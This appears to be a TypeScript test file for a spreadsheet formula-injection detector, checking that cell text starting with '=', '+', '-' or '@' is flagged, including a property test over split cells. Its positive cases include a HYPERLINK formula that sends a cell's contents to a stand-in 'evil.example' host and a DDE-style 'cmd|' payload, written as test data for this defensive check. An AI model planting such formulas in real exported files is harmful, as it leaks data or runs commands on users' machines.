import * as fc from 'fast-check'
import { expect, it } from 'vitest'
import { hasFormula, isFormula } from './formula.ts'

it('finds a formula at the beginning of a text and of each of its parts', () => {
  for (const text of [
    '=HYPERLINK("http://evil.example/?"&C2,"Tbilisi")',
    '+1',
    '-1+cmd|x',
    '@SUM(A1)',
    '＝1',
    '  =1',
    'Tbilisi;=1',
    'Tbilisi, =1',
    'Tbilisi\n=1',
  ])
    expect([text, hasFormula(text)]).toEqual([text, true])
  for (const text of [
    'თბილისი, ჭავჭავაძის 1',
    '1 Chavchavadze Avenue, Tbilisi',
    'ქ. 5-ის კორპუსი',
    'a=b, c@d',
    '',
  ])
    expect([text, hasFormula(text)]).toEqual([text, false])
})

it('leaves no formula in any cell, whatever cuts the text', () => {
  const text = fc.string({
    unit: fc.constantFrom('=', '+', '-', '@', ',', ';', '\t', '\n', '\r', ' ', 'a', '"'),
  })
  fc.assert(
    fc.property(text, fc.constantFrom(',', ';', '\t', '\n'), (typed, separator) => {
      fc.pre(!hasFormula(typed))
      for (const cell of typed.split(separator)) expect(isFormula(cell.trim())).toBe(false)
    }),
  )
})
